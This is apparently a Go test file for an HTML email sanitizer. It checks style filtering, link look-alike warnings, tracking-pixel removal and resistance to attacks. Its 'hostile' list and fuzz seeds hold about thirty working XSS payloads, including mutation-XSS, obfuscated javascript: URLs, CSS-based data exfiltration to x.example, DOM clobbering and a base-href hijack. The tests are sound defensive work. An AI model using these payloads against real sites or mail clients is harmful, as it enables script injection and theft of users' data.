package sanitize

import (
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

func TestShowStyles(t *testing.T) {
	for _, c := range []struct{ name, in, css string }{
		{"a colour", `<p style="color:Red">a`, ".g0{color:red}"},
		{"important wins", `<style>p{color:red!important}</style><p style="color:blue">a`, ".g0{color:red}"},
		{"the cascade", `<style>p{color:red} .x{color:green} p{color:blue}</style><p class=x>a`, ".g0{color:green}"},
		{"within", `<style>table.a > td b{color:red} table.a td b{color:blue}</style><table class=a><tr><td><b>a</b></table>`, ".g0{color:blue}"},
		{"children", `<style>tr>td>b{color:red}</style><table><tr><td><b>a</b></table>`, ".g0{color:red}"},
		{"attributes", `<table bgcolor=EEEEEE cellpadding=3><tr><td align=center nowrap>a</table>`, ".g0{background-color:#eeeeee}.g1{padding:3px;text-align:center;white-space:nowrap}"},
		{"font", `<font color=red face="Arial, x" size=2>a</font>`, ".g0{color:red;font-family:arial,x;font-size:small}"},
		{"position", `<p style="position:fixed;top:0;left:0;z-index:9;margin:-5px;color:red">a`, ".g0{color:red}"},
		{"loading", `<p style="background:#EEE url(http://x/y);list-style-image:url(x);content:'x';color:red">a`, ".g0{background-color:#eee;color:red}"},
		{"imports and fonts", `<style>@import url(//x);@font-face{font-family:a;src:url(//x)} @media screen{p{color:blue}} p{color:red}</style><p>a`, ".g0{color:red}"},
		{"reaction", `<style>p:hover{color:red} p::before{color:red} p[title^=a]{color:red} p+p{color:red}</style><p title=ab>a<p>b`, ""},
		{"functions", `<p style="color:rgb(1, 2,3);width:calc(1px);height:expression(alert(1));margin:var(--x);padding:env(x)">a`, ".g0{color:rgb(1,2,3)}"},
		{"out of bounds", `<p style="width:99999px;font-size:500px;line-height:90;font:12px/90 a;letter-spacing:-9px;color:red">a`, ".g0{color:red}"},
		{"escapes", `<p style="c\6flor:red;color:\72 ed;font-family:'a\27;}</style><script>'">a`, ""},
		{"dark on light is no colour", `<p style="color:black;background:#fff">a`, ""},
		{"unless there are others", `<p style="color:black">a<p style="color:red">b`, ".g0{color:black}.g1{color:red}"},
	} {
		got := Show(c.in, ShowOptions{})
		if got.CSS != c.css {
			t.Errorf("%s: %q", c.name, got.CSS)
		}
		if got.Paper != (c.css != "") {
			t.Errorf("%s: paper is %v", c.name, got.Paper)
		}
	}
}

func TestShow(t *testing.T) {
	for _, c := range []struct{ name, in, want string }{
		{"what is not closed ends with its paragraph", `<b><p>a</p></b><p><i>b<p>c`, `<div><div><b><p>a</p></b><p><i>b</i></p><p>c</p></div></div>`},
		{"handlers, ids and names", `<p id=a name=b onclick=x() class=c data-x=y>a`, `<div><div><p>a</p></div></div>`},
		{"forms", `<form action=/x><input name=p>a<button>b</button></form>`, `<div><div>a</div></div>`},
		{"what is hidden stays so", `<p style="display:none">a</p><p hidden>b</p><p style="mso-hide:all">c</p><p style="max-height:0">d</p>e`, `<div><div>e</div></div>`},
		{"unless it is shown again", `<style>.x{display:none}</style><p class=x style="display:block">a`, `<div><div><p class="g0">a</p></div></div>`},
		{"forced direction", "a\u202eb<a href=http://x.example>c\u2067d</a>", `<div><div>ab<a href="http://x.example" title="http://x.example" rel="noopener noreferrer nofollow ugc" target="_blank">cd</a></div></div>`},
		{"a look-alike", `<a href=http://evil.example/>www.bank.com</a>`, `<div><div><a href="http://evil.example/" title="http://evil.example/" rel="noopener noreferrer nofollow ugc" target="_blank">www.bank.com</a><span class="leads">` + "\u00a0" + `(→ evil.example)</span></div></div>`},
		{"javascript", "<a href=\" java\tscript:alert(1)\">a</a><a href=data:text/html,x>b</a><a href=vbscript:x>c</a><a href=//x>d</a>", `<div><div><a>a</a><a>b</a><a>c</a><a>d</a></div></div>`},
		{"a remote picture", `<img src=http://x.example/a.png width=30 height=20 alt=A>`, `<div><div><span class="remote g0">A</span></div></div>`},
		{"a spy", `<img src=http://x.example/a.png width=1 height=1><img src=//x.example/b style="width:0">`, `<div><div></div></div>`},
		{"srcset", `<picture><source srcset=http://x/y><img srcset="http://x/z 2x" src="data:image/svg+xml,x" alt=A></picture>`, `<div><div>A</div></div>`},
		{"foreign elements", `<svg><p>a</p><style><img src=x onerror=y></style></svg><math><mtext><b>b</b></mtext></math>c`, `<div><div><p>a</p><img></div></div>`},
		{"unknown elements", `<o:p>a</o:p><x-y>b</x-y>`, `<div><div>ab</div></div>`},
	} {
		got := Show(c.in, ShowOptions{})
		if c.name == "foreign elements" {
			if strings.Contains(got.HTML, "onerror") || !strings.Contains(got.HTML, "c</div>") {
				t.Errorf("%s: %s", c.name, got.HTML)
			}
			continue
		}
		if got.HTML != c.want {
			t.Errorf("%s:\n got %s\nwant %s", c.name, got.HTML, c.want)
		}
	}
}

func TestShowNamesWhereLinksLead(t *testing.T) {
	for _, c := range []struct{ text, href, want string }{
		{"www.bank.com", "https://bank.com/x", ""},
		{"https://www.bank.com/login", "https://evil.example/", "evil.example"},
		{"mail.bank.co.uk", "https://evil.co.uk/", "evil.co.uk"},
		{"https://bank.com@evil.example/", "https://evil.example/", ""},
		{"bank.com", "https://bank.com@evil.example/", "evil.example"},
		{"bank.com", `https://evil.example\@bank.com`, "evil.example"},
		{"click here", "https://evil.example/", ""},
		{"report.docx", "https://evil.example/", ""},
		{"bank.com", "mailto:x@y.example", ""},
	} {
		if got := misleads(c.text, c.href); got != c.want {
			t.Errorf("%s to %s: %q, want %q", c.text, c.href, got, c.want)
		}
	}
}

func TestShowPartsWhatIsNew(t *testing.T) {
	got := Show(`<div><p>Yes, <b>do</b> it.</p><p>--<br>Hana <img src="https://x.example/logo.png"></p></div>`, ShowOptions{New: "Yes, do it.", Old: "--\nHana", Quoted: `<p style="color:red">Old <img src="https://x.example/logo.png"><img src="https://x.example/2.png"></p>`})
	if !strings.Contains(got.HTML, "<b>do</b>") || strings.Contains(got.HTML, "Hana") {
		t.Error(got.HTML)
	}
	if !strings.Contains(got.Rest, "Hana") || !strings.Contains(got.Rest, "Old") || len(got.Remote) != 2 {
		t.Error(got.Rest, got.Remote)
	}
	// The HTML says more than the text: nothing of that may be folded away.
	more := Show(`<p>Yes, <b>do</b> it.</p><p>And the other one, too.</p><p>--<br>Hana</p>`, ShowOptions{New: "Yes, do it.", Old: "--\nHana"})
	if !strings.Contains(more.HTML, "the other one") || more.Rest != "" {
		t.Errorf("shown %s, folded %s", more.HTML, more.Rest)
	}
}

// allowedIn is what may stand in what Show gives, attribute by attribute.
var allowedIn = map[string]*regexp.Regexp{
	"class": regexp.MustCompile(`^(leads|remote|g\d+|remote g\d+)$`), "dir": regexp.MustCompile(`^(ltr|rtl|auto)$`),
	"href": regexp.MustCompile(`(?i)^(https?|mailto|tel):`), "rel": regexp.MustCompile(`^noopener noreferrer nofollow ugc$`), "target": regexp.MustCompile(`^_blank$`),
	"title": regexp.MustCompile(``), "src": regexp.MustCompile(`^(/p$|data:image/(png|jpe?g|gif|webp);base64,)`), "alt": regexp.MustCompile(``), "loading": regexp.MustCompile(`^lazy$`),
	"width": regexp.MustCompile(`^\d+$`), "height": regexp.MustCompile(`^\d+$`), "colspan": regexp.MustCompile(`^\d+$`), "rowspan": regexp.MustCompile(`^\d+$`),
	"start": regexp.MustCompile(`^-?\d+$`), "span": regexp.MustCompile(`^\d+$`),
}

var ruleShape = regexp.MustCompile(`^(\.g\d+\{[a-z-]+:[^{}<>@\\;]+(;[a-z-]+:[^{}<>@\\;]+)*\})*$`)

// shownIsHarmless reads what Show gave as a browser would, and names what should not be there.
func shownIsHarmless(t *testing.T, source string, got Shown) {
	t.Helper()
	if !ruleShape.MatchString(got.CSS) || strings.Contains(got.CSS, "url") || strings.Contains(got.CSS, "expression") {
		t.Errorf("%q has the rules %q", source, got.CSS)
	}
	doc, err := html.Parse(strings.NewReader("<div>" + got.HTML + "</div>" + got.Rest))
	if err != nil {
		return // deeper than the parser goes
	}
	for n := range doc.Descendants() {
		if n.Type != html.ElementNode || n.Data == "html" || n.Data == "head" || n.Data == "body" {
			continue
		}
		if shownAs[n.Data] != n.Data || n.Namespace != "" {
			t.Errorf("%q left <%s>: %q", source, n.Data, got.HTML)
		}
		for _, a := range n.Attr {
			if shape := allowedIn[a.Key]; shape == nil || !shape.MatchString(a.Val) {
				t.Errorf("%q left %s=%q", source, a.Key, a.Val)
			}
		}
	}
}

// hostile are mails that were made to get through. They are asked of the rules here and of a real browser in e2e.
var hostile = []string{
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<template><img src=x onerror=alert(1)></template><template shadowrootmode=open><script>alert(1)</script></template>`,
	`<p style="color:red;}</style><script>alert(1)</script>">a`,
	`<style>p{color:red}</style></style><script>alert(1)</script>`,
	`<style>*{background:url(//x.example/?a)}@import "//x.example/b";input[value^=a]{background:url(//x.example/c)}</style><p>a`,
	`<style>:host{display:none}:host-context(body){color:red}::slotted(*){color:red} .g0{color:red} .leads{display:none}</style><p class="g0 leads">a`,
	`<base href="//x.example/"><a href="x">y</a><meta http-equiv=refresh content="0;url=//x.example">`,
	`<link rel=stylesheet href=//x.example/a.css><img src=x:x onerror=alert(1)><img/src='x'/onerror=alert(1)>`,
	`<a href="&#106;avascript:alert(1)">a</a><a href="java&#10;script:alert(1)">b</a><a href="\x01javascript:alert(1)">c</a><a href="JaVaScRiPt:alert(1)">d</a>`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"><img src="data:text/html,<script>alert(1)</script>">`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">`,
	`<form id=x></form><button form=x formaction=javascript:alert(1)>a</button><input autofocus onfocus=alert(1)>`,
	`<div style="position:fixed;inset:0;z-index:99999;background:red"><a href="https://x.example" style="display:block;width:100vw;height:100vh">a</a></div>`,
	`<table background="javascript:alert(1)"><td background="//x.example/a"><body background=//x.example/b onload=alert(1)>`,
	`<form name=body><input id=attributes name=nodeName></form><a id=location href=x>a</a><img name=cookie>`,
	`<video src=//x.example/a poster=//x.example/b onloadstart=alert(1)></video><audio src=//x.example/c autoplay></audio>`,
	`<plaintext><script>alert(1)</script>`, `<xmp><script>alert(1)</script></xmp>`, `<!--><script>alert(1)</script>-->`, `<![CDATA[<script>alert(1)</script>]]>`,
	`<select><style></select><img src=x onerror=alert(1)></style>`, `<p><svg><foreignObject><p><style><!--</style><p title="--><img src=x onerror=alert(1)>">`,
	`<x-b onclick=alert(1)>a</x-b><x-font><b style="animation:x 1s;behavior:url(x);-moz-binding:url(x)">b</b>`,
	`<a href="https://x.example" ping="//x.example/p" download onmouseover=alert(1) style="cursor:none">a</a>`,
	"<img src=`javascript:alert(1)`><details open ontoggle=alert(1)><summary>a</summary></details><marquee onstart=alert(1)>b</marquee>",
	`<isindex action=javascript:alert(1) type=image><keygen autofocus onfocus=alert(1)><portal src=//x.example></portal><dialog open>a</dialog>`,
	`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>`,
}

func TestShowAgainstAttacks(t *testing.T) {
	for _, source := range hostile {
		shownIsHarmless(t, source, Show(source, ShowOptions{Picture: func(string) (string, bool) { return "/p", true }}))
	}
	root := os.Getenv("GOODTURN_TESTDATA")
	if root == "" {
		t.Skip("GOODTURN_TESTDATA is not set: the shared test data is needed")
	}
	raw, err := os.ReadFile(filepath.Join(root, "html", "dompurify.json"))
	if err != nil {
		t.Fatal(err)
	}
	var cases []struct{ Payload string }
	if err := json.Unmarshal(raw, &cases); err != nil || len(cases) < 50 {
		t.Fatalf("read %d attacks: %v", len(cases), err)
	}
	for _, c := range cases {
		shownIsHarmless(t, c.Payload, Show(c.Payload, ShowOptions{Picture: func(string) (string, bool) { return "/p", true }}))
	}
	pages, err := filepath.Glob(filepath.Join(root, "html", "*", "*html"))
	if err != nil || len(pages) == 0 {
		t.Fatalf("no pages: %v", err)
	}
	for _, name := range pages {
		raw, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		got := Show(strings.ToValidUTF8(string(raw), ""), ShowOptions{})
		shownIsHarmless(t, filepath.Base(name), got)
		t.Logf("%s: %d bytes became %d and %d of rules", filepath.Base(name), len(raw), len(got.HTML), len(got.CSS))
	}
	t.Logf("%d known and %d own attacks, %d pages: none left anything that is not allowed", len(cases), len(hostile), len(pages))
}

func FuzzShow(f *testing.F) {
	for _, source := range hostile {
		f.Add(source, "a")
	}
	f.Fuzz(func(t *testing.T, source, text string) {
		got := Show(source, ShowOptions{New: text, Old: source, Picture: func(string) (string, bool) { return "/p", true }})
		shownIsHarmless(t, source, got)
		again := Show(got.HTML, ShowOptions{Picture: func(string) (string, bool) { return "/p", true }})
		shownIsHarmless(t, got.HTML, again)
		if len(got.HTML)+len(got.Rest) > 40*len(source)+4000 {
			t.Errorf("%d bytes became %d", len(source), len(got.HTML)+len(got.Rest))
		}
	})
}
